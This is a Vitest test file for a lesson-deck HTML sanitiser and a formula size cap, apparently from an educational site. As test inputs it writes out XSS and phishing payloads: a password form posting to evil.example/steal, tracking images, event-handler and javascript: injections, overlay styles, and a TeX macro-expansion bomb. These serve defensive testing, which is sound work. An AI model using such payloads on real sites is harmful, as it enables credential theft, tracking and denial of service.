/**
 * Deck HTML is sanitised to what lessons need (html-policy.ts), and a formula has a size cap
 * (markdown.ts): malicious or oversized decks.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import {
	checkDeck,
	formatIssue,
	renderInline,
	renderMarkdown,
	sanitizeHtml
} from '../../../src/lib/content/index.js';
import { allowedImageSource, allowedKatexStyle } from '../../../src/lib/content/html-policy.js';
import { MAX_TEX_CHARS } from '../../../src/lib/content/markdown.js';

const repoRoot = path.resolve(import.meta.dirname, '../../..');

describe('deck HTML', () => {
	it('a deck cannot hold a form, an input or a button', () => {
		const html = renderMarkdown(
			'<form action="https://evil.example/steal" method="post"><input name="password" type="password">' +
				'<select><option>a</option></select><textarea>t</textarea>' +
				'<button formaction="https://evil.example">Send</button></form>'
		);
		expect(html).not.toMatch(/<(form|input|select|option|textarea|button)\b/);
		expect(html).not.toMatch(/formaction|evil\.example|password/);
		expect(html).toContain('Send'); // the text stays, without its control
	});

	it('a deck cannot make the browser load a remote image', () => {
		const html = renderMarkdown(
			[
				'![x](https://evil.example/track.png)',
				'<img src="//evil.example/a.png"> <img src="ht\ttps://evil.example/b.png">',
				'<img src="\\\\evil.example/c.png"> <img src="/x.png" srcset="https://evil.example/d.png 2x">',
				'<table background="https://evil.example/e.png"><tr><td>t</td></tr></table>',
				'<video poster="https://evil.example/f.png" src="https://evil.example/v.mp4"></video>',
				'<svg><image href="https://evil.example/g.png"/><filter><feImage href="https://evil.example/h.png"/></filter></svg>',
				'<p style="background:url(https://evil.example/i.png)">p</p>'
			].join('\n\n')
		);
		expect(html).not.toContain('evil.example');
		expect(html).not.toMatch(/<(video|feimage)/i);
	});

	it('keeps local and data: images (lesson figures are local)', () => {
		const html = sanitizeHtml(
			'<img src="/figures/heads.png" alt="a"><img src="figure.svg" alt="b"><img src="data:image/png;base64,iVBORw0KGgo=" alt="c">'
		);
		expect(html).toBe(
			'<img src="/figures/heads.png" alt="a"><img src="figure.svg" alt="b"><img src="data:image/png;base64,iVBORw0KGgo=" alt="c">'
		);
		expect(allowedImageSource('https://attentive.invalid/x.png')).toBe(true);
		expect(allowedImageSource('data:text/html,<script>x</script>')).toBe(false);
		expect(allowedImageSource('javascript:alert(1)')).toBe(false);
	});

	it('a deck cannot clobber the page with id or name attributes, or point at its ids', () => {
		const html = sanitizeHtml(
			'<img name="getElementById"><a id="backup-heading" name="cookie" href="#top">t</a>' +
				'<span aria-labelledby="backup-heading" aria-describedby="x" aria-controls="y">s</span>' +
				'<table><tr><td headers="h">1</td></tr></table>'
		);
		expect(html).not.toMatch(/\b(id|name|aria-labelledby|aria-describedby|aria-controls|headers)=/);
		expect(html).toContain('href="#top"'); // links to an anchor still work
	});

	it('lesson headings need no id, and KaTeX keeps its aria-hidden and MathML', () => {
		const html = renderMarkdown('## Scaled scores\n\nScore $\\omega_{21}$.');
		expect(html).toContain('<h2>Scaled scores</h2>');
		expect(html).toContain('aria-hidden="true"');
		expect(html).toContain('<annotation encoding="application/x-tex">\\omega_{21}</annotation>');
	});

	it('a deck cannot run inline event handlers or javascript: links', () => {
		const html = renderMarkdown(
			'<p onclick="alert(1)" onmouseover="alert(2)">p</p> <svg onload="alert(3)"><a xlink:href="javascript:alert(4)"><text>t</text></a></svg>\n\n<details open ontoggle="alert(5)"><summary>s</summary></details>'
		);
		expect(html).not.toMatch(/\bon[a-z]+=|javascript:/);
	});

	it('a deck cannot style the page: style survives only inside KaTeX, with KaTeX lengths', () => {
		const html = sanitizeHtml(
			'<p style="position:fixed;inset:0;z-index:99">overlay</p><style>body{display:none}</style>' +
				'<span class="katex"><span style="position:fixed;top:0">a</span>' +
				'<span style="height:9999em;width:9999em">b</span>' +
				'<span style="height:1.0404em;vertical-align:-0.345em">c</span></span>'
		);
		expect(html).toBe(
			'<p>overlay</p><span class="katex"><span>a</span><span>b</span>' +
				'<span style="height:1.0404em;vertical-align:-0.345em">c</span></span>'
		);
		expect(allowedKatexStyle('margin-right:0.0359em;top:-3.063em;position:relative')).toBe(true);
		expect(allowedKatexStyle('color:red;background-image:url(x)')).toBe(false);
	});

	it('every style KaTeX writes for the math of the lessons survives', () => {
		const md =
			'$$\n\\begin{bmatrix} \\alpha_{11} & 0 \\\\ \\alpha_{21} & \\alpha_{22} \\end{bmatrix}' +
			' \\sqrt{d_k} \\frac{e^{x_i}}{\\sum_j e^{x_j}} \\underbrace{x}_{y} \\boxed{z} \\color{red}{w}\n$$';
		const raw = (html: string) => [...html.matchAll(/ style="[^"]*"/g)].length;
		const html = renderMarkdown(md);
		expect(raw(html)).toBeGreaterThan(10);
		// the sanitiser dropped no style: compare with the count in KaTeX's own output
		expect(raw(html)).toBe(raw(sanitizeHtml(html)));
		expect(html).toContain('style="height:');
	});

	it('a deck cannot reorder keyboard focus with a positive tabindex', () => {
		expect(sanitizeHtml('<div tabindex="5">a</div><pre tabindex="0">b</pre>')).toBe(
			'<div>a</div><pre tabindex="0">b</pre>'
		);
		expect(renderInline('<span tabindex="-1">c</span>')).toBe('<span tabindex="-1">c</span>');
	});
});

const FRONT = [
	'---',
	'id: demo',
	'title: Demo',
	'order: 1',
	'summary: A demo deck.',
	'section: 3.3.1',
	'---'
];

describe('formula size cap', () => {
	const huge = `\\frac{1}{2}${' + x'.repeat(MAX_TEX_CHARS)}`;

	it('a deck with an oversized formula fails with file:line', () => {
		const text = [...FRONT, '', '# Title', '', 'Fine $x$.', '', `Huge $${huge}$ here.`].join('\n');
		const issues = checkDeck(text, 'content/en/01-demo.md').issues.map(formatIssue);
		expect(issues).toEqual([
			expect.stringMatching(
				new RegExp(
					`^content/en/01-demo\\.md:13: cannot typeset \\$\\\\frac\\{1\\}\\{2\\} \\+ x.*…\\$: the formula is ${huge.length} characters long; at most ${MAX_TEX_CHARS} are allowed$`
				)
			)
		]);
		// the message names the formula by its start, not all of it
		expect(issues[0].length).toBeLessThan(200);
	});

	it('a formula that expands macros exponentially fails the deck instead of hanging the build', () => {
		const bomb =
			'\\def\\a{xx}\\def\\b{\\a\\a}\\def\\c{\\b\\b}\\def\\d{\\c\\c}\\def\\e{\\d\\d}\\def\\f{\\e\\e}\\def\\g{\\f\\f}\\def\\h{\\g\\g}\\h\\h';
		const text = [...FRONT, '', `Bomb $${bomb}$.`].join('\n');
		const issues = checkDeck(text, 'demo.md').issues.map(formatIssue);
		expect(issues).toEqual([
			expect.stringMatching(/^demo\.md:9: cannot typeset .*Too many expansions/)
		]);
	});

	it('a formula cannot draw a rule larger than maxSize', () => {
		const html = renderMarkdown('$\\rule{100000em}{100000em}$');
		const sizes = [
			...html.matchAll(/(?:height|width|border-right-width|border-top-width):(\d+(?:\.\d+)?)em/g)
		].map((m) => Number(m[1]));
		expect(sizes.length).toBeGreaterThan(0);
		expect(Math.max(...sizes)).toBeLessThanOrEqual(20);
	});

	it('an oversized formula rendered at run time shows an error, not the formula', () => {
		const html = renderMarkdown(`$${huge}$`);
		expect(html).toContain('class="katex-error"');
		expect(html.length).toBeLessThan(600);
	});

	describe('npm run content:check', { timeout: 90_000 }, () => {
		const dir = mkdtempSync(path.join(tmpdir(), 'content-hardening-'));
		afterAll(() => rmSync(dir, { recursive: true, force: true }));

		it('fails on a deck with an oversized formula, naming file:line', () => {
			mkdirSync(path.join(dir, 'en'));
			const deck = path.join(dir, 'en', '01-demo.md');
			writeFileSync(deck, [...FRONT, '', '# Title', '', `Huge $${huge}$.`].join('\n'));
			const r = spawnSync(
				path.join(repoRoot, 'node_modules/.bin/tsx'),
				[path.join(repoRoot, 'scripts/content-check.ts'), dir],
				{ cwd: repoRoot, encoding: 'utf8' }
			);
			expect(r.status).toBe(1);
			// the file is named relative to the working directory (the repository), wherever that is
			const file = path.relative(repoRoot, deck);
			expect(r.stdout + r.stderr).toContain(`${file}:11: cannot typeset $\\frac{1}{2}`);
			expect(r.stdout + r.stderr).toContain(`at most ${MAX_TEX_CHARS} are allowed`);
		});
	});
});
